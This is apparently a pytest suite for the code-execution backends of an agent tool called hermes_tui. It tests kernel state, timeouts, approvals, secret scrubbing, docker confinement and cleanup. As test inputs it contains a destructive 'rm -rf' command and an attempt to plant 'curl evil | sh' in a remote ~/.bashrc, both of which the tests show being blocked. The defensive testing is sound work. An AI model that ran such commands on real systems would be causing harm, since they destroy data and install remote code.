"""Kernels where the work is: the engine's contract on ``local``, ``docker`` and ``ssh``.

Real parts: a dockerd (started if none answers) with an offline image that borrows the host's
``/usr`` read-only, and an sshd of the test run's own on 127.0.0.1 (``conftest.py``). The same
tests run on each backend: state across calls, head/tail capture and spill, the timeout, an
interrupt that keeps state, tool calls from the script acting where the kernel is, approvals
of ``terminal()`` (asked here), the environment scrub, idle reaping; then the fallbacks, and
what is left behind (nothing) when kernels end.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import uuid
from pathlib import Path

import pytest

from conftest import Approver
from hermes_tui.config import parse_config
from hermes_tui.runtime.runtime import Runtime
from helpers.backends import NO_PYTHON_IMAGE, TEST_IMAGE

BACKENDS = ["local", "docker", "ssh", "jupyter-local", "jupyter-gateway"]
SECRET = "sk-host-secret-" + uuid.uuid4().hex[:8]


def _docker_yaml(mounts: list[str], image: str = TEST_IMAGE, extra: str = "") -> str:
    args = json.dumps([*mounts, "--tmpfs", "/tmp", "--tmpfs", "/work"])
    return f"terminal:\n  backend: docker\n  docker_image: {image}\n  docker_extra_args: {args}\n  cwd: /work\n{extra}"


def _ssh_yaml(server, folder: str, extra: str = "") -> str:
    return (f"terminal:\n  backend: ssh\n  ssh_host: {server.host}\n  ssh_user: {server.user}\n"
            f"  ssh_port: {server.port}\n  ssh_key: {server.key}\n  cwd: {folder}\n{extra}")


@pytest.fixture(params=BACKENDS)
def backend(request, tmp_path: Path):
    """(name, YAML of its terminal section, where a script's files land as seen from here or None)."""
    name = request.param
    if name == "local":
        return name, lambda extra="": "terminal:\n  backend: local\n" + extra, tmp_path
    if name == "docker":
        mounts = request.getfixturevalue("docker_daemon")
        return name, lambda extra="": _docker_yaml(mounts, extra=extra), None
    if name == "jupyter-local":
        return name, lambda extra="": "terminal:\n  backend: jupyter\n" + extra, tmp_path
    if name == "jupyter-gateway":  # its kernels run on this machine: a folder here is their cwd
        gateway = request.getfixturevalue("jupyter_gateway")
        folder = tmp_path / "remote"
        folder.mkdir()
        return name, lambda extra="": (f"terminal:\n  backend: jupyter\n  jupyter_gateway_url: {gateway.url}\n"
                                       f"  jupyter_auth_token: {gateway.token}\n  cwd: {folder}\n{extra}"), folder
    server = request.getfixturevalue("ssh_server")
    folder = tmp_path / "remote"
    folder.mkdir()
    return name, lambda extra="": _ssh_yaml(server, str(folder), extra), folder


def _runtime(yaml_text: str, home: Path, **kwargs) -> Runtime:
    """A runtime of ``yaml_text`` (``async with``: started, and closed with its kernels)."""
    return Runtime(parse_config(yaml_text), home=home, **kwargs)


async def test_state_persists_and_the_kernel_says_where_it_runs(backend, hermes_home: Path, tmp_path: Path) -> None:
    name, yaml, _ = backend
    async with _runtime(yaml(), hermes_home) as rt:
        first = await rt.execute_code("import socket; x = 41\nprint(socket.gethostname())", session="s",
                                      cwd=tmp_path)
        assert first.status == "success", first.error
        second = await rt.execute_code("x += 1\nprint(x)", session="s", cwd=tmp_path)
        assert second.output == "42\n" and second.kernel.reused
        (info,) = rt.kernels()
        memory = await rt.kernel_memory()  # the driver's own, there (the relay here is not it)
        assert 5 << 20 < memory[info.id] < 500 << 20, memory
        if name == "docker":
            assert info.where.startswith("docker:") and info.sandbox == "docker"
            assert first.output.strip() == info.where.split(":")[1]  # the container's hostname is its id
        elif name == "ssh":
            assert info.where == "ssh:root@127.0.0.1" and info.sandbox == "ssh: none on the remote"
        elif name == "jupyter-gateway":
            assert info.where.startswith("jupyter:127.0.0.1:") and info.sandbox.startswith("jupyter: the gateway's")
        elif name == "jupyter-local":
            assert info.where == "jupyter:local"
        else:
            assert info.where == "local"


async def test_big_output_is_capped_head_and_tail_and_spilled_whole(backend, hermes_home: Path, tmp_path) -> None:
    _, yaml, _ = backend
    async with _runtime(yaml(), hermes_home) as rt:
        result = await rt.execute_code("for i in range(20000):\n    print(f'line {i:05d}')", session="s",
                                       cwd=tmp_path)
        assert result.status == "success" and result.stdout_truncated
        assert result.output.startswith("line 00000\n") and result.output.rstrip().endswith("line 19999")
        spilled = Path(result.stdout_spill_path).read_text()
        assert spilled.count("\n") == 20000 and "line 10000\n" in spilled


async def test_timeout_kills_and_the_next_call_gets_a_fresh_kernel(backend, hermes_home: Path, tmp_path) -> None:
    _, yaml, _ = backend
    async with _runtime(yaml(), hermes_home) as rt:
        await rt.execute_code("y = 7", session="s", cwd=tmp_path)
        result = await rt.execute_code("import time\nprint('started', flush=True)\ntime.sleep(30)", session="s",
                                       cwd=tmp_path, timeout=2)
        assert result.status == "timeout" and result.error == "Script timed out after 2s and was killed."
        assert result.output.startswith("started")
        after = await rt.execute_code("print('y' in globals())", session="s", cwd=tmp_path)
        assert after.output == "False\n" and "timed out" in (after.warning or "")


async def test_an_interrupt_stops_the_script_and_keeps_the_state(backend, hermes_home: Path, tmp_path) -> None:
    _, yaml, _ = backend
    async with _runtime(yaml(), hermes_home) as rt:
        await rt.execute_code("kept = [1, 2, 3]", session="s", cwd=tmp_path)
        running = asyncio.create_task(rt.execute_code(
            "import time\nfor i in range(600):\n    print(i, flush=True)\n    time.sleep(0.05)", session="s",
            cwd=tmp_path))
        for _ in range(200):
            await asyncio.sleep(0.05)
            if any(k.state == "busy" for k in rt.kernels()):
                break
        await asyncio.sleep(0.5)
        assert await rt.interrupt("s") == 1
        result = await asyncio.wait_for(running, 30)
        assert result.status == "interrupted" and "KeyboardInterrupt" in result.output
        after = await rt.execute_code("print(sum(kept))", session="s", cwd=tmp_path)
        assert after.output == "6\n" and after.kernel.reused


TOOLS_SCRIPT = """
from hermes_tools import read_file, write_file, patch, search_files, terminal
print(write_file("notes/a.txt", "alpha\\nbeta\\n")["bytes_written"])
print(patch(path="notes/a.txt", old_string="beta", new_string="gamma")["replacements"])
print(read_file("notes/a.txt")["content"], end="")
print([m["path"] for m in search_files("gamma", path=".")["matches"]])
print(terminal("cat notes/a.txt | wc -l; hostname")["output"], end="")
"""


async def test_tool_calls_from_the_script_act_where_the_kernel_is(backend, hermes_home: Path, tmp_path) -> None:
    name, yaml, here = backend
    async with _runtime(yaml("approvals:\n  mode: off\n"), hermes_home) as rt:
        result = await rt.execute_code(TOOLS_SCRIPT, session="s", cwd=tmp_path)
        assert result.status == "success", result.error or result.output
        lines = result.output.splitlines()
        assert lines[:5] == ["11", "1", "     1|alpha", "     2|gamma", "['notes/a.txt']"]
        assert lines[5] == "2" and result.tool_calls_made == 5
        if here is not None:  # local and ssh (the "remote" host is this machine): the file is there
            assert (here / "notes" / "a.txt").read_text() == "alpha\ngamma\n"
        else:  # docker: in the container only, never on this machine
            assert not (tmp_path / "notes").exists() and not Path("/work/notes/a.txt").exists()
            (info,) = rt.kernels()
            assert lines[6] == info.where.split(":")[1]


async def test_terminal_is_asked_here_and_a_denied_command_never_runs_there(backend, hermes_home: Path,
                                                                             tmp_path) -> None:
    _, yaml, _ = backend
    approver = Approver("deny", "not now")
    async with _runtime(yaml("approvals:\n  mode: manual\n"), hermes_home, approver=approver) as rt:
        result = await rt.execute_code(
            "from hermes_tools import terminal\nimport os\n"
            "print(terminal('rm -rf ./victim && touch denied-ran')['error'])\n"
            "print(os.path.exists('denied-ran'))", session="s", cwd=tmp_path)
        assert result.status == "success", result.error
        assert result.output.splitlines()[-1] == "False" and "BLOCKED" in result.output
        assert [r.kind for r in approver.asked] == ["terminal"]
        assert approver.asked[0].text == "rm -rf ./victim && touch denied-ran"


async def test_no_host_secret_reaches_the_kernel_only_forwarded_names(backend, hermes_home: Path, tmp_path) -> None:
    name, yaml, _ = backend
    forward = ("  docker_forward_env: [HERMES_TEST_FORWARDED]\n" if name == "docker"
               else "  env_passthrough: [HERMES_TEST_FORWARDED]\n")
    text = yaml().replace("terminal:\n", "terminal:\n" + forward, 1)
    env = {**os.environ, "OPENAI_API_KEY": SECRET, "HERMES_TEST_FORWARDED": "forwarded-value"}
    async with _runtime(text, hermes_home, host_env=env) as rt:
        result = await rt.execute_code(
            "import os\nfrom hermes_tools import terminal\n"
            "print(os.environ.get('OPENAI_API_KEY'), os.environ.get('HERMES_TEST_FORWARDED'))\n"
            "print(terminal('echo ${OPENAI_API_KEY:-none}')['output'], end='')", session="s", cwd=tmp_path)
        assert result.status == "success", (result.error, result.output, result.duration)
        assert result.output == "None forwarded-value\nnone\n"
        assert SECRET not in result.output


async def test_an_idle_kernel_is_reaped_and_leaves_nothing_behind(backend, hermes_home: Path, tmp_path,
                                                                  request) -> None:
    name, yaml, _ = backend
    async with _runtime(yaml("code_execution:\n  kernel_idle_timeout: 1\n"), hermes_home) as rt:
        await rt.execute_code("z = 1", session="s", cwd=tmp_path)
        (info,) = rt.kernels()
        for _ in range(100):
            await asyncio.sleep(0.1)
            if not rt.kernels():
                break
        assert not rt.kernels()
        await asyncio.sleep(0.5)
        if name == "docker":
            names = subprocess.run(["docker", "ps", "-a", "--format", "{{.ID}}"], capture_output=True,
                                   text=True).stdout
            assert info.where.split(":")[1] not in names  # its container went with it
        if name == "ssh":  # nothing its login started is left on the host (sshd itself stays)
            server = request.getfixturevalue("ssh_server")
            assert server.pids() == [server.process.pid]


# -- fallbacks: said out loud, never run here ----------------------------------------------


async def test_an_image_without_python_fails_in_one_line_and_nothing_runs_here(docker_daemon, hermes_home: Path,
                                                                             tmp_path) -> None:
    marker = tmp_path / "ran-here"
    async with _runtime(_docker_yaml([], image=NO_PYTHON_IMAGE), hermes_home) as rt:
        result = await rt.execute_code(f"open({str(marker)!r}, 'w').write('x')", session="s", cwd=tmp_path)
        assert result.status == "error" and "\n" not in (result.error or "")
        assert result.error.startswith("docker: cannot start a container of hermes-tui-test:nopy: ")
        assert result.error.endswith("(the image has no python3: kernels need Python 3 in the image)")
        assert not marker.exists() and not rt.kernels()


async def test_a_host_without_python3_says_so_and_runs_nothing_here(ssh_server_no_python, hermes_home: Path,
                                                                   tmp_path) -> None:
    marker = tmp_path / "ran-here"
    async with _runtime(_ssh_yaml(ssh_server_no_python, str(tmp_path)), hermes_home) as rt:
        result = await rt.execute_code(f"open({str(marker)!r}, 'w').write('x')", session="s", cwd=tmp_path)
        assert result.status == "error"
        assert "No session kernel could start on ssh" in (result.warning or "")
        assert "standalone" in result.warning and "python3" in result.output
        assert not marker.exists()


async def test_an_unreachable_ssh_host_fails_with_what_ssh_said(hermes_home: Path, tmp_path) -> None:
    text = ("terminal:\n  backend: ssh\n  ssh_host: 127.0.0.1\n  ssh_port: 1\n  ssh_user: root\n")
    async with _runtime(text, hermes_home) as rt:
        result = await rt.execute_code("print(1)", session="s", cwd=tmp_path)
        assert result.status == "error" and "Connection refused" in (result.output + (result.error or ""))
        assert "No session kernel could start on ssh" in (result.warning or "")


@pytest.mark.parametrize("name", ["modal", "daytona", "singularity"])
async def test_backends_that_cannot_be_reached_from_here_are_refused_naming_the_supported(
        name: str, hermes_home: Path, tmp_path) -> None:
    async with _runtime(f"terminal:\n  backend: {name}\n", hermes_home) as rt:
        result = await rt.execute_code("print(1)", session="s", cwd=tmp_path)
        assert result.status == "error" and not rt.kernels()
        assert result.error == (f"terminal.backend is {name}: hermes-tui runs kernels and commands on local, docker, "
                                "ssh or jupyter only (it cannot reach the others from here); set terminal.backend to one "
                                "of those")


async def test_a_docker_container_is_confined(docker_daemon, hermes_home: Path, tmp_path) -> None:
    async with _runtime(_docker_yaml(docker_daemon), hermes_home) as rt:
        result = await rt.execute_code(
            "import socket\nprint(open('/proc/self/status').read().split('CapEff:')[1].split()[0])\n"
            "print(open('/proc/self/status').read().split('NoNewPrivs:')[1].split()[0])\n"
            "try:\n    socket.create_connection(('1.1.1.1', 53), timeout=2)\nexcept OSError as e:\n"
            "    print('no network')", session="s", cwd=tmp_path)
        assert result.output.split() == ["0000000000000000", "1", "no", "network"], result.output
        (info,) = rt.kernels()
        inspect = subprocess.run(["docker", "inspect", "-f", "{{.HostConfig.PidsLimit}}",
                                  info.where.split(":")[1]], capture_output=True, text=True)
        assert inspect.stdout.strip() == "512"


# -- doctor ---------------------------------------------------------------------------------


def _doctor(home: Path, yaml_text: str) -> subprocess.CompletedProcess[str]:
    import sys
    (home / "config.yaml").write_text(yaml_text)
    return subprocess.run([sys.executable, "-m", "hermes_tui", "doctor", "--offline"], capture_output=True, text=True,
                          env={**os.environ, "HERMES_HOME": str(home)}, timeout=120)


def test_doctor_checks_the_ssh_host_and_starts_a_kernel_there(ssh_server, hermes_home: Path, tmp_path) -> None:
    done = _doctor(hermes_home, _ssh_yaml(ssh_server, str(tmp_path)))
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"terminal   ssh: kernels and commands run on root@127.0.0.1:{ssh_server.port} (cwd {tmp_path} there)" \
        in done.stdout
    assert f"✓ backend    ssh root@127.0.0.1:{ssh_server.port} answers (a login in " in done.stdout
    assert "✓ kernel     started on ssh, ran print(1) and read_file in " in done.stdout


def test_doctor_says_a_missing_image_is_not_pulled(docker_daemon, hermes_home: Path) -> None:
    done = _doctor(hermes_home, _docker_yaml(docker_daemon, image="hermes-tui-test:absent"))
    assert done.returncode == 1
    assert "✗ backend    docker " in done.stdout and "image hermes-tui-test:absent is not on this machine" in done.stdout
    assert "docker pull hermes-tui-test:absent (hermes-tui never pulls)" in done.stdout
    good = _doctor(hermes_home, _docker_yaml(docker_daemon))
    assert good.returncode == 0, good.stdout
    assert f"image {TEST_IMAGE} present; containers run with every capability dropped" in good.stdout
    assert "✓ kernel     started on docker" in good.stdout


# -- the relay: big scripts, big files, threads ----------------------------------------------


@pytest.mark.parametrize("name", ["docker", "ssh"])
async def test_a_megabyte_script_a_big_file_and_calls_from_threads_cross_the_relay(name, request, hermes_home: Path,
                                                                                   tmp_path) -> None:
    if name == "docker":
        text = _docker_yaml(request.getfixturevalue("docker_daemon"), extra="approvals:\n  mode: off\n")
    else:
        text = _ssh_yaml(request.getfixturevalue("ssh_server"), str(tmp_path), "approvals:\n  mode: off\n")
    async with _runtime(text, hermes_home) as rt:
        big_script = "".join(f"v{i} = {i}  # {'x' * 90}\n" for i in range(10_000)) + "print(v9999)\n"
        result = await rt.execute_code(big_script, session="s", cwd=tmp_path)
        assert result.status == "success" and result.output == "9999\n", result.error
        result = await rt.execute_code(
            "from hermes_tools import write_file, read_file\nimport hashlib, threading\n"
            "data = ''.join(f'{i:08d}\\n' for i in range(600_000))\n"  # 5.4 MB
            "print(write_file('big.txt', data)['bytes_written'])\n"
            "print(hashlib.sha256(open('big.txt').read().encode()).hexdigest() == "
            "hashlib.sha256(data.encode()).hexdigest())\n"
            "seen = []\n"
            "def reader(n):\n    seen.append(read_file('big.txt', offset=n * 1000 + 1, limit=1)['content'])\n"
            "threads = [threading.Thread(target=reader, args=(n,)) for n in range(8)]\n"
            "[t.start() for t in threads]; [t.join() for t in threads]\n"
            "print(sorted(seen) == [f'{n * 1000 + 1:>6}|{n * 1000:08d}\\n' for n in range(8)])", session="s",
            cwd=tmp_path)
        assert result.status == "success", result.error or result.output
        assert result.output.splitlines() == ["5400000", "True", "True"] and result.tool_calls_made == 9


async def test_a_persistent_container_keeps_its_files_for_the_session(docker_daemon, hermes_home: Path,
                                                                      tmp_path) -> None:
    text = _docker_yaml(docker_daemon, extra="  container_persistent: true\n").replace("--tmpfs\", \"/work\"",
                                                                                     "--tmpfs\", \"/srv\"")
    text = text.replace("cwd: /work", "cwd: /root")
    async with _runtime(text, hermes_home) as rt:
        await rt.execute_code("open('kept.txt', 'w').write('still here')", session="p", cwd=tmp_path)
        (info,) = rt.kernels()
    short = info.where.split(":")[1]
    listed = subprocess.run(["docker", "ps", "-a", "--format", "{{.ID}} {{.State}}"], capture_output=True,
                            text=True).stdout
    assert f"{short} exited" in listed  # stopped, not removed
    try:
        async with _runtime(text, hermes_home) as rt:
            result = await rt.execute_code("print(open('kept.txt').read())", session="p", cwd=tmp_path)
            assert result.output == "still here\n" and rt.kernels()[0].where == info.where
    finally:
        subprocess.run(["docker", "rm", "-f", short], capture_output=True)


async def test_closing_the_runtime_removes_the_sessions_containers(docker_daemon, hermes_home: Path, tmp_path) -> None:
    async with _runtime(_docker_yaml(docker_daemon), hermes_home) as rt:
        for session in ("a", "b"):
            await rt.execute_code("x = 1", session=session, cwd=tmp_path)
        shorts = [k.where.split(":")[1] for k in rt.kernels()]
        assert len(set(shorts)) == 2  # a container per session
    listed = subprocess.run(["docker", "ps", "-a", "--format", "{{.ID}}"], capture_output=True, text=True).stdout
    assert not any(short in listed for short in shorts)


async def test_the_approval_says_where_the_command_would_run(docker_daemon, hermes_home: Path, tmp_path) -> None:
    approver = Approver("deny")
    async with _runtime(_docker_yaml(docker_daemon, extra="approvals:\n  mode: strict\n"), hermes_home,
                        approver=approver) as rt:
        await rt.execute_code("from hermes_tools import terminal\nterminal('echo hi')", session="s", cwd=tmp_path)
        (info,) = rt.kernels()
        (asked,) = approver.asked
        assert (asked.where, asked.cwd) == (info.where, "/work")
        top = await rt.call_tool("terminal", {"command": "echo top"}, session="s", cwd=tmp_path)
        assert top["status"] == "blocked" and approver.asked[1].where == "docker"


HOST_SCRIPT = """
import asyncio, sys, time
from hermes_tui.config import parse_config
from hermes_tui.runtime.runtime import Runtime

async def main():
    rt = await Runtime(parse_config(sys.argv[1])).start()
    await rt.execute_code("x = 1", session="s", cwd=sys.argv[2])
    print(rt.kernels()[0].where, flush=True)
    await asyncio.sleep(3600)

asyncio.run(main())
"""


@pytest.mark.parametrize("name", ["docker", "ssh"])
def test_a_killed_host_leaves_nothing_running_there(name, request, hermes_home: Path, tmp_path) -> None:
    import signal
    import sys
    import time

    if name == "docker":
        text = _docker_yaml(request.getfixturevalue("docker_daemon"))
    else:
        server = request.getfixturevalue("ssh_server")
        text = _ssh_yaml(server, str(tmp_path))
    host = subprocess.Popen([sys.executable, "-c", HOST_SCRIPT, text, str(tmp_path)], stdout=subprocess.PIPE,
                            text=True, env={**os.environ, "HERMES_HOME": str(hermes_home)}, start_new_session=True)
    try:
        where = host.stdout.readline().strip()
        assert where.startswith(f"{name}:"), where
        os.killpg(host.pid, signal.SIGKILL)  # no cleanup of its own: the far end must notice
        host.wait()
        deadline = time.monotonic() + 20
        while True:
            if name == "docker":
                left = where.split(":")[1] in subprocess.run(["docker", "ps", "-a", "--format", "{{.ID}}"],
                                                             capture_output=True, text=True).stdout
            else:
                left = server.pids() != [server.process.pid]
            if not left or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        assert not left, f"{where} still has processes after its host was killed"
    finally:
        if host.poll() is None:
            os.killpg(host.pid, signal.SIGKILL)
            host.wait()


# -- what the review of the first version found ---------------------------------------------


async def test_a_login_banner_never_reaches_a_kernel_or_a_command(hermes_home: Path, tmp_path) -> None:
    from helpers.backends import SshServer

    with SshServer() as server:
        (server.home / ".bashrc").write_text("echo 'Welcome to the build box'\necho banner on stderr >&2\n")
        async with _runtime(_ssh_yaml(server, str(tmp_path), "approvals:\n  mode: off\n"), hermes_home) as rt:
            result = await rt.execute_code("from hermes_tools import terminal\nx = 1\nprint(terminal('echo hi')"
                                           "['output'], end='')", session="s", cwd=tmp_path)
            assert result.status == "success" and result.output == "hi\n", result.output + str(result.warning)
            (tmp_path / "seen.txt").write_text("seen\n")
            read = await rt.call_tool("read_file", {"path": str(tmp_path / "seen.txt")}, session="top")
            assert read["content"] == "     1|seen\n", read


async def test_a_forwarded_value_is_on_no_command_line_here_or_there(ssh_server, hermes_home: Path, tmp_path) -> None:
    secret = "fwd-" + uuid.uuid4().hex
    text = _ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: off\n").replace(
        "terminal:\n", "terminal:\n  env_passthrough: [HERMES_TEST_FORWARDED]\n", 1)
    import base64
    scan = ("import os\nfound = []\nfor pid in os.listdir('/proc'):\n    try:\n"
            "        found += [pid] if SECRET.encode() in open(f'/proc/{pid}/cmdline', 'rb').read() else []\n"
            "    except OSError: pass\nprint(found)\n").replace("SECRET", repr(secret))
    command = f"python3 -c \"import base64; exec(base64.b64decode('{base64.b64encode(scan.encode()).decode()}'))\""
    async with _runtime(text, hermes_home, host_env={**os.environ, "HERMES_TEST_FORWARDED": secret}) as rt:
        result = await rt.execute_code(
            "import os\nfrom hermes_tools import terminal\n"
            f"print(os.environ['HERMES_TEST_FORWARDED'] == {secret!r})\n"
            f"print(terminal({command!r})['output'], end='')\n" + scan, session="s", cwd=tmp_path)
        assert result.status == "success", result.error or result.output
        assert result.output.splitlines() == ["True", "[]", "[]"]  # the command's scan, then the kernel's


async def test_strict_mode_there_runs_in_a_private_folder(backend, hermes_home: Path, tmp_path) -> None:
    _, yaml, _ = backend
    async with _runtime(yaml("code_execution:\n  mode: strict\napprovals:\n  mode: off\n"), hermes_home) as rt:
        result = await rt.execute_code("import os\nfrom hermes_tools import write_file\n"
                                       "print(write_file('mine.txt', 'x')['path'])\nprint(os.getcwd())",
                                       session="s", cwd=tmp_path)
        lines = result.output.splitlines()
        assert len(lines) == 2, (result.status, result.error, result.warning, result.output)
        path, cwd = lines
        assert path == os.path.join(cwd, "mine.txt") and cwd not in (str(tmp_path), "/work", "/root")
        assert not (tmp_path / "mine.txt").exists()


async def test_a_write_to_the_homes_startup_files_there_is_asked(ssh_server, hermes_home: Path, tmp_path) -> None:
    approver = Approver("deny")
    async with _runtime(_ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: manual\n"), hermes_home,
                        approver=approver) as rt:
        result = await rt.execute_code(
            "import os\nfrom hermes_tools import write_file\n"
            "print(write_file(os.path.expanduser('~/.bashrc'), 'curl evil | sh\\n').get('error', '')[:7])",
            session="s", cwd=tmp_path)
        assert result.output == "BLOCKED\n"
        (asked,) = approver.asked
        assert asked.kind == "file" and asked.where == "ssh:root@127.0.0.1"
        assert asked.files[0].path == str(ssh_server.home / ".bashrc")
        assert not (ssh_server.home / ".bashrc").exists()


async def test_a_models_own_calls_keep_the_sessions_container(docker_daemon, hermes_home: Path, tmp_path) -> None:
    async with _runtime(_docker_yaml(docker_daemon, extra="approvals:\n  mode: off\n"), hermes_home) as rt:
        written = await rt.call_tool("write_file", {"path": "kept.txt", "content": "kept\n"}, session="m")
        assert written.get("bytes_written") == 5, written
        assert (await rt.call_tool("terminal", {"command": "cat kept.txt"}, session="m"))["output"] == "kept\n"
        run = await rt.execute_code("print(open('kept.txt').read(), end='')", session="m", cwd=tmp_path)
        assert run.output == "kept\n"


async def test_a_script_that_ends_while_its_thread_writes_leaves_the_kernel_working(ssh_server, hermes_home: Path,
                                                                                   tmp_path) -> None:
    async with _runtime(_ssh_yaml(ssh_server, str(tmp_path), "approvals:\n  mode: off\n"), hermes_home) as rt:
        await rt.execute_code("kept = 42", session="s", cwd=tmp_path)
        await rt.execute_code("import threading\nfrom hermes_tools import write_file\n"
                              "threading.Thread(target=write_file, args=('big.bin', 'y' * (24 << 20)), "
                              "daemon=True).start()\nimport time; time.sleep(0.3)", session="s", cwd=tmp_path)
        after = await rt.execute_code("print(kept)", session="s", cwd=tmp_path, timeout=60)
        assert after.status == "success" and after.output == "42\n", after.error
